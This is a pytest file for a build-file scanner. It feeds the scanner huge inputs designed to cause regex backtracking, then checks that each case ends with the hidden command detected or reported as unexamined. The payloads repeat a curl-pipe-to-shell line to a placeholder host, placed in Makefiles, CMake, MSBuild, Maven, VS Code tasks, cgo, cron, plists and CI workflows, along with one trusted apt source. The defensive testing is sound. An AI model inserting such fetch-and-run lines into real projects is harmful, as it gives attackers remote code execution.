"""Texts on which patterns that go back and forth would take for ever: each must end, with the command behind it found, or told as not looked at."""

import pytest
from source_lab import look

from beartrap.model.coverage import Gap
from beartrap.model.question import Question
from beartrap.vet.kinds import Kind

MANY = 300_000
"""Characters: with time that grows by the square, each case would take hours."""
PIPE = "curl -s http://c.invalid/x | sh"


def many(piece: str) -> str:
    return piece * (MANY // len(piece))


@pytest.mark.parametrize(
    ("path", "kind", "hostile", "payload"),
    [
        ("Makefile", Kind.BUILD, many("\n"), "X = PIPE\nall:\n\t@$(X)\n"),
        ("Makefile", Kind.BUILD, many("$(shell a "), "\nall:\n\tPIPE\n"),
        ("Makefile", Kind.BUILD, "$(shell " + many(" "), "\nall:\n\tPIPE\n"),
        ("Makefile", Kind.BUILD, "\t" + many("|/"), "\n\tPIPE\n"),
        ("a.sh", Kind.SHELL, "# xz |" + many("eval "), "\nPIPE\n"),
        ("etc/apt/a.list", Kind.TEXT, many("["), "\ndeb [trusted=yes] http://c.invalid/ a b\n"),
        ("Makefile", Kind.BUILD, many("A = $(A)$(B)\nB = $(A)\n") + "\t$(A)\n", "\n\tPIPE\n"),
        ("binding.gyp", Kind.BUILD, "<!(" + many(" "), ")<!(PIPE)"),
        ("a.targets", Kind.BUILD, many("<Code>"), '<Exec Command="PIPE" />'),
        ("a.targets", Kind.BUILD, many("<Code "), '<Exec Command="PIPE" />'),
        ("a.targets", Kind.BUILD, many("<Exec "), '<Exec Command="PIPE" />'),
        ("a.targets", Kind.BUILD, many("<DownloadFile "), '<Exec Command="PIPE" />'),
        ("a.targets", Kind.BUILD, many("<PostBuildEvent>"), '<Exec Command="PIPE" />'),
        ("a.cmake", Kind.BUILD, "set(a" + many(" "), ")\nexecute_process(COMMAND PIPE)"),
        ("a.cmake", Kind.BUILD, many("execute_process(COMMAND "), "a)\nexecute_process(COMMAND PIPE)"),
        ("a.cmake", Kind.BUILD, many("execute_process("), "execute_process(COMMAND PIPE)"),
        ("a.cmake", Kind.BUILD, many("file(DOWNLOAD a b)\n"), "execute_process(COMMAND PIPE)"),
        ("a.cmake", Kind.BUILD, "check_c_source_compiles(main" + many("\n"), "execute_process(COMMAND PIPE)"),
        ("a.cmake", Kind.BUILD, "exec_program(" + many(" "), ")\nexecute_process(COMMAND PIPE)"),
        ("meson.build", Kind.BUILD, many("run_command("), "run_command('sh', '-c', 'PIPE')"),
        ("a.go", Kind.GO, many("/* "), '*/\nvar a = 1\n/* int x(void) { return system("PIPE"); } */\nimport "C"\n'),
        ("a.go", Kind.GO, many("// a\n") + "\nvar a = 1\n", '/* int x(void) { return system("PIPE"); } */\nimport "C"\n'),
        ("a.go", Kind.GO, '/* int x(void) { return system("PIPE"); } */\nimport "C"\n' + many("/"), ""),
        ("a.go", Kind.GO, "/* a */" + many("\n"), 'var a = 1\n/* int x(void) { return system("PIPE"); } */\nimport "C"\n'),
        ("pom.xml", Kind.MANIFEST, many("<exec "), "<executable>sh</executable><argument>-c</argument><argument>PIPE</argument></exec>"),
        ("pom.xml", Kind.MANIFEST, "<exec>" + many("<arg "), "<executable>sh</executable><argument>-c</argument><argument>PIPE</argument></exec>"),
        ("pom.xml", Kind.MANIFEST, "<exec>" + many("<code>"), "<executable>sh</executable><argument>-c</argument><argument>PIPE</argument></exec>"),
        (".vscode/tasks.json", Kind.JSON, '{"a": "' + many('\\"'), '", "command": "PIPE"}'),
        (".vscode/tasks.json", Kind.JSON, '{"a": "' + many('\\"'), '", "command": "PIPE"'),
        (".vscode/tasks.json", Kind.JSON, '{"command": "PIPE"} /*' + many("/*"), ""),
        (".cargo/config.toml", Kind.TOML, "runner =" + many(" "), 'x\nrunner = "PIPE"\n'),
        ("a.plist", Kind.UNIT, many("<key>Program</key><array>"), "<string>sh</string><string>-c</string><string>PIPE</string></array>"),
        ("a.cron", Kind.UNIT, "1 1 1 1 1" + many(" "), "\n1 1 1 1 1 root PIPE\n"),
        ("a.yml", Kind.WORKFLOW, "run: ${{" + many(" "), "\nrun: PIPE\n"),
        ("a.yml", Kind.WORKFLOW, "run: a " + many("${{ "), "\nrun: PIPE\n"),
        ("a.yml", Kind.WORKFLOW, "run: a '" + many("${{secrets.a}}"), "\nrun: PIPE\n"),
        ("a.yml", Kind.WORKFLOW, "  uses: a/" + many("1"), "\nrun: PIPE\n"),
        ("a.yml", Kind.WORKFLOW, "  uses: a/b@main\n" + many("\n"), "secrets: secrets.a\nrun: PIPE\n"),
    ],
)  # fmt: skip
def test_a_hostile_text_ends(path: str, kind: Kind, hostile: str, payload: str) -> None:
    seen = look(path, (hostile + payload).replace("PIPE", PIPE), kind=kind)
    gaps = any(Question.NEXT in one.questions for one in seen if isinstance(one, Gap))
    assert gaps or any(one.id in ("process.piped", "weakened.trust") for one in seen if not isinstance(one, Gap))
